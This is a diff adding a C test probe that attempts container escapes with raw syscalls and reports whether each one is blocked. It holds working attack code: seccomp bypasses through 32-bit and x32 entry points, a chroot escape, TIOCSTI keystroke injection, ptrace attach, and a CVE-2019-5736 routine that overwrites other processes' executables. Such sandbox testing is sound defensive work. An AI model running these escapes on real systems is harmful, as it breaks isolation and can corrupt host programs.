@@ -1,0 +1,158 @@
+/* What a hostile program in a container tries, with raw system calls: no C library stands in between.
+ *   attack syscalls            one line for each forbidden call: its name and the errno
+ *   attack write PATH          opens PATH for writing and writes a line there
+ *   attack chroot PATH         leaves a chroot by a directory held open, then looks for PATH
+ *   attack abstract NAME       connects to an abstract socket
+ *   attack descriptors         the descriptors it was given
+ *   attack trace PID           attaches to a process
+ *   attack type                types into the terminal on stdin
+ *   attack overwrite           writes to the program of every process it sees */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <unistd.h>
+
+static void told(const char *name, long result) {
+    printf("%s %s\n", name, result < 0 ? strerrorname_np(errno) : "DONE");
+}
+
+#define TRY(name, ...) told(name, syscall(__VA_ARGS__))
+
+#ifdef __x86_64__
+/* The same call by the entry of 32-bit programs, which a filter of 64-bit numbers alone would not judge. */
+static long old_entry(long number, long first) {
+    long result;
+    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(0), "d"(0), "S"(0), "D"(0) : "memory", "r8", "r9", "r10", "r11");
+    if (result < 0) { errno = (int)-result; return -1; }
+    return result;
+}
+#endif
+
+static void syscalls(void) {
+    static char handle[64] = {8, 0, 0, 0, 1};
+    TRY("mount", SYS_mount, "none", "/tmp", "tmpfs", 0, 0);
+    TRY("bind", SYS_mount, "/", "/tmp", 0, 4096, 0);
+    TRY("remount", SYS_mount, 0, "/proc/sys", 0, 32 | 4096, 0);
+    TRY("umount2", SYS_umount2, "/proc/kcore", 0);
+    TRY("pivot_root", SYS_pivot_root, "/", "/tmp");
+    TRY("unshare-user", SYS_unshare, 0x10000000);
+    TRY("unshare-mount", SYS_unshare, 0x20000);
+    TRY("clone-user", SYS_clone, 0x10000000 | 17, 0, 0, 0, 0);
+    TRY("setns", SYS_setns, open("/proc/self/ns/mnt", O_RDONLY), 0);
+    TRY("fsopen", SYS_fsopen, "tmpfs", 0);
+    TRY("open_tree", SYS_open_tree, AT_FDCWD, "/", 1);
+    TRY("move_mount", SYS_move_mount, -1, "", -1, "", 0);
+    TRY("mount_setattr", SYS_mount_setattr, -1, "", 0, 0, 0);
+    TRY("mknod", SYS_mknodat, AT_FDCWD, "/tmp/disk", S_IFBLK | 0600, 8 << 8);
+    TRY("kexec_load", SYS_kexec_load, 0, 0, 0, 0);
+    TRY("kexec_file_load", SYS_kexec_file_load, -1, -1, 0, 0, 0);
+    TRY("bpf", SYS_bpf, 0, 0, 0);
+    TRY("init_module", SYS_init_module, "", 0, "");
+    TRY("finit_module", SYS_finit_module, -1, "", 0);
+    TRY("delete_module", SYS_delete_module, "overlay", 0);
+    TRY("reboot", SYS_reboot, 0xfee1dead, 672274793, 0, 0);
+    TRY("swapon", SYS_swapon, "/dev/null", 0);
+    TRY("acct", SYS_acct, "/tmp/acct");
+    TRY("open_by_handle_at", SYS_open_by_handle_at, AT_FDCWD, handle, O_RDONLY);
+    TRY("perf_event_open", SYS_perf_event_open, 0, 0, -1, -1, 0);
+    TRY("userfaultfd", SYS_userfaultfd, 0);
+    TRY("io_uring_setup", SYS_io_uring_setup, 1, 0);
+    TRY("keyctl", SYS_keyctl, 0, 0, 0, 0, 0);
+    TRY("add_key", SYS_add_key, "user", "a", "b", 1, -4);
+    TRY("settimeofday", SYS_settimeofday, 0, 0);
+    TRY("clock_settime", SYS_clock_settime, 0, 0);
+    TRY("syslog", SYS_syslog, 5, 0, 0);
+    TRY("quotactl", SYS_quotactl, 0, 0, 0, 0);
+    TRY("fanotify_init", SYS_fanotify_init, 0, 0);
+    TRY("personality", SYS_personality, 0x40000);
+    TRY("socket-vsock", SYS_socket, 40, 1, 0);
+    TRY("socket-alg", SYS_socket, 38, 5, 0);
+    TRY("socket-alg-high", SYS_socket, (1L << 32) | 38, 5, 0);
+    TRY("sethostname", SYS_sethostname, "x", 1);
+#ifdef __x86_64__
+    TRY("iopl", SYS_iopl, 3);
+    TRY("x32-unshare", 0x40000000 | SYS_unshare, 0x10000000);
+    told("old-unshare", old_entry(310, 0x10000000));
+    told("old-mount", old_entry(21, 0));
+#endif
+    TRY("clone3", SYS_clone3, 0, 0);
+    TRY("future", 5000);
+}
+
+static void write_to(const char *path) {
+    int file = open(path, O_WRONLY);
+    told(path, file < 0 ? -1 : write(file, "1\n", 2));
+}
+
+static void leave_chroot(const char *path) {
+    mkdir("/tmp/jail", 0755);
+    int held = open("/", O_RDONLY | O_DIRECTORY);
+    if (chroot("/tmp/jail") < 0 || fchdir(held) < 0) { told("chroot", -1); return; }
+    for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
+    if (chroot(".") < 0) { told("chroot", -1); return; }
+    told("found", access(path, F_OK));
+    /* It is its own root and no more. */
+    told("own", access("/etc/alpine-release", F_OK));
+}
+
+static void abstract(const char *name) {
+    struct sockaddr_un address = {.sun_family = AF_UNIX};
+    memcpy(address.sun_path + 1, name, strlen(name));
+    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+    told("connect", connect(fd, (struct sockaddr *)&address, sizeof(sa_family_t) + 1 + strlen(name)));
+}
+
+static void descriptors(void) {
+    for (int fd = 3; fd < 1024; fd++) {
+        char link[64], target[256] = "";
+        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
+        if (readlink(link, target, sizeof target - 1) > 0) printf("%d %s\n", fd, target);
+    }
+}
+
+/* CVE-2019-5736: hold the program of a process that comes in, and write to it when that process has gone. */
+static void overwrite(void) {
+    for (int round = 0; round < 2000; round++) {
+        DIR *processes = opendir("/proc");
+        for (struct dirent *entry; processes && (entry = readdir(processes));) {
+            char path[300];
+            if (atoi(entry->d_name) <= 0 || atoi(entry->d_name) == getpid()) continue;
+            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
+            int held = open(path, O_PATH | O_CLOEXEC);
+            if (held < 0) continue;
+            snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+            for (int i = 0; i < 20; i++) {
+                int file = open(path, O_WRONLY | O_CLOEXEC);
+                if (file >= 0) { if (write(file, "#!/bin/false\n", 13) > 0) puts("OVERWRITTEN"); close(file); }
+            }
+            close(held);
+        }
+        if (processes) closedir(processes);
+        usleep(1000);
+    }
+}
+
+int main(int count, char **words) {
+    const char *what = count > 1 ? words[1] : "", *object = count > 2 ? words[2] : "";
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    if (!strcmp(what, "syscalls")) syscalls();
+    else if (!strcmp(what, "write")) for (int i = 2; i < count; i++) write_to(words[i]);
+    else if (!strcmp(what, "chroot")) leave_chroot(object);
+    else if (!strcmp(what, "abstract")) abstract(object);
+    else if (!strcmp(what, "descriptors")) descriptors();
+    else if (!strcmp(what, "trace")) told("attach", ptrace(PTRACE_ATTACH, atoi(object), 0, 0));
+    else if (!strcmp(what, "type")) { ioctl(0, TIOCSCTTY, 1); told("type", ioctl(0, TIOCSTI, "x")); }
+    else if (!strcmp(what, "overwrite")) overwrite();
+    else return 2;
+    return 0;
+}
